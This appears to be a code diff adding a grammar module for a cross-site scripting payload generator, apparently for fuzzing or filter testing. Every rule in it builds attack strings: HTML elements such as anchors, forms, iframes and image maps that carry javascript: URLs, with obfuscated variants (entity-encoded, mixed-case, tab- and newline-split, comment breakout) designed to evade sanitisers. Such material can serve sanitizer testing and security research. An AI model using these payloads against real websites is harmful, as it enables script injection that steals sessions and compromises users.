@@ -1,0 +1,50 @@
+import { xssGenerator } from '../xss-generator.js';
+
+/** Elements that carry a script's URL into the page. */
+export const linkElement = xssGenerator({
+  name: 'link-element',
+  rules: {
+    start: [
+      '{open}<{carrier}={url}>{word}',
+      '{open}<{carrier}={url}>{word}</a>',
+      '{open}<form><button formaction={url}>{word}',
+      '{open}<form id=x></form><button form=x formaction={url}>x',
+      '{open}<form action={url}><input type=submit>',
+      '{open}<form action={url}><button>go',
+      '{open}<map name=x><area href={url} shape=default></map><img usemap=#x>',
+      '{open}<form><input type=image formaction={url} src=x>',
+      '{open}<form><input type=submit formaction={url} value=x>',
+      '{open}<math><mrow href={url}>x',
+      '{open}<a href={url} target=_self>{word}',
+      '{open}<a id=x tabindex=1 href={url}>{word}</a>',
+    ],
+    carrier: [
+      'a href',
+      'A HREF',
+      'a/href',
+      'iframe src',
+      'a class=x href',
+      'a title=x href',
+      'IFRAME SRC',
+      'iframe width=1 src',
+      'a\nhref',
+    ],
+    url: [
+      'javascript:{bare}',
+      '"javascript:{script}"',
+      '"javascript:{script}"',
+      "'javascript:{bare}'",
+      '"JaVaScRiPt:{script}"',
+      '"java&#9;script:{bare}"',
+      '"&#106;avascript:{bare}"',
+      '"javascript&colon;{bare}"',
+      '"java&Tab;script:{bare}"',
+      '" &#14; javascript:{bare}"',
+      '"java&NewLine;script:{bare}"',
+      'javascript&#x3a;{bare}',
+      '"jav&#x0A;ascript:{bare}"',
+      '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;{bare}',
+      '"javascript:/*--></title></style>*/{bare}"',
+    ],
+  },
+});
